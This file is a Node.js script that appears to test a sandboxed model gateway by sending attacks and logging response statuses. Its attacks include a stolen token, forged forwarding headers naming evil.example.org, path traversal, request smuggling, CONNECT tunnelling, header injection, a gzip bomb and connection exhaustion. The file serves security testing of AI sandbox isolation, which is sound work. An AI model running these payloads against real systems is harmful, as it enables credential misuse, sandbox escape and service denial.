/**
 * Attacks of a program in a sandbox on the model gateway, one a line: its name, and the statuses of the answers. The
 * arguments: the address of the provider, and the token of another session.
 */
import { connect } from 'node:net';

const [provider, stolen] = process.argv.slice(2);
const { OPENAI_BASE_URL: base, OPENAI_API_KEY: token } = process.env;
const port = Number(new URL(base).port);
const chat = '/openai/v1/chat/completions';
const prompt = (more = {}) =>
  JSON.stringify({
    model: 'local',
    stream: true,
    messages: [{ role: 'user', content: 'Hi' }],
    ...more,
  });

/** Sends bytes as they are; resolves with the statuses of what comes back until the connection ends. */
function raw(...parts) {
  return new Promise((resolve) => {
    const socket = connect(port, '127.0.0.1');
    let text = '';
    const done = () => {
      socket.destroy();
      resolve(
        text
          .match(/HTTP\/1\.1 \d+/g)
          ?.map((line) => line.slice(9))
          .join(' ') ?? 'closed',
      );
    };
    socket.setTimeout(3_000, done);
    socket
      .on('data', (bytes) => (text += bytes))
      .on('close', done)
      .on('error', done);
    for (const part of parts) socket.write(part);
  });
}

/** A request as text; header lines are added as they are. */
const request = (
  target,
  body = prompt(),
  headers = [`content-length: ${Buffer.byteLength(body)}`],
) =>
  [
    `POST ${target} HTTP/1.1`,
    'host: 127.0.0.1',
    `authorization: Bearer ${token}`,
    'content-type: application/json',
    'connection: close',
    ...headers,
    '',
    body,
  ].join('\r\n');
const chunked = (text) => `${Buffer.byteLength(text).toString(16)}\r\n${text}\r\n0\r\n\r\n`;
const post = async (headers = {}, body = prompt()) => {
  const init = { method: 'POST', headers: { authorization: `Bearer ${token}`, ...headers }, body };
  const answer = await fetch(`${base}/chat/completions`, { duplex: 'half', ...init });
  await answer.text();
  return answer.status;
};
const say = async (name, attempt) =>
  console.log(name, await Promise.resolve(attempt).catch(({ cause, name }) => cause?.code ?? name));

await say('honest', post());
await say('another token', post({ authorization: `Bearer ${stolen}` }));
await say('no token', post({ authorization: '' }));
await say(
  'overriding headers',
  post({
    'x-api-key': 'sk-own',
    'x-goog-api-key': 'sk-own',
    'api-key': 'sk-own',
    'x-forwarded-host': 'evil.example.org',
    'x-original-url': '/v1/files',
    'proxy-authorization': 'Basic YQ==',
    forwarded: 'host=evil.example.org',
    'openai-organization': 'evil',
  }),
);
for (const target of [
  `/openai/v1/../v1/chat/completions`,
  `/openai/v1/%2e%2e/v1/chat/completions`,
  `//openai/v1/chat/completions`,
  `/openai//v1/chat/completions`,
  `/openai/v1/chat/completions/`,
  `/openai/v1/chat/completions;/../files`,
  `/openai/v1/chat\\completions`,
  `/openai/v1/files`,
  `/openai/v1/chat/completions/../../../admin`,
  `http://127.0.0.1${chat}`,
  `${provider}/v1/chat/completions`,
  `@evil.example.org${chat}`,
])
  await say(`path ${target.replace(provider, 'PROVIDER')}`, raw(request(target)));
const hidden = request('/openai/v1/files');
await say(
  'both lengths',
  raw(
    request(chat, chunked(prompt()) + hidden, ['content-length: 10', 'transfer-encoding: chunked']),
  ),
);
await say(
  'two lengths',
  raw(
    request(chat, prompt() + hidden, ['content-length: 10', `content-length: ${prompt().length}`]),
  ),
);
await say(
  'unknown encoding',
  raw(request(chat, chunked(prompt()), ['transfer-encoding: chunked, identity'])),
);
await say('spaced name', raw(request(chat, chunked(prompt()), ['transfer-encoding : chunked'])));
await say('folded', raw(request(chat, chunked(prompt()), ['transfer-encoding:', ' chunked'])));
await say('bare line feed', raw(request(chat).replaceAll('\r\n', '\n')));
await say(
  'chunk extension',
  raw(request(chat, '5;a=\n\r\n12345\r\n0\r\n\r\n', ['transfer-encoding: chunked'])),
);
await say(
  'line in a header',
  raw(
    request(chat, prompt(), [`content-length: ${prompt().length}`, 'user-agent: a\rx-api-key: b']),
  ),
);
await say('after the end', raw(request(chat) + hidden));
await say(
  'tunnel',
  raw(
    `CONNECT ${new URL(provider).host} HTTP/1.1\r\nhost: a\r\nauthorization: Bearer ${token}\r\n\r\n`,
  ),
);
await say('huge header', post({ 'anthropic-beta': 'a'.repeat(20_000) }));
await say('huge body', post({}, prompt({ more: 'a'.repeat(40 * 2 ** 20) })));
const endless = new ReadableStream({
  pull: (controller) => controller.enqueue(new Uint8Array(2 ** 20).fill(97)),
});
await say('endless body', post({}, endless));
await say(
  'bomb',
  post({ 'content-encoding': 'gzip' }, await gzipOf(Buffer.alloc(64 * 2 ** 20, 32))),
);
await say(
  'provider',
  fetch(provider).then(({ status }) => status),
);
const halves = Array.from({ length: 50 }, () => connect(port, '127.0.0.1'));
for (const half of halves)
  half.on('error', () => {}).write(request(chat, '{', ['content-length: 1000000']));
await say('beside halves', post());
for (const half of halves) half.destroy();
await say('at the end', post());

async function gzipOf(bytes) {
  return (await import('node:zlib')).gzipSync(bytes);
}
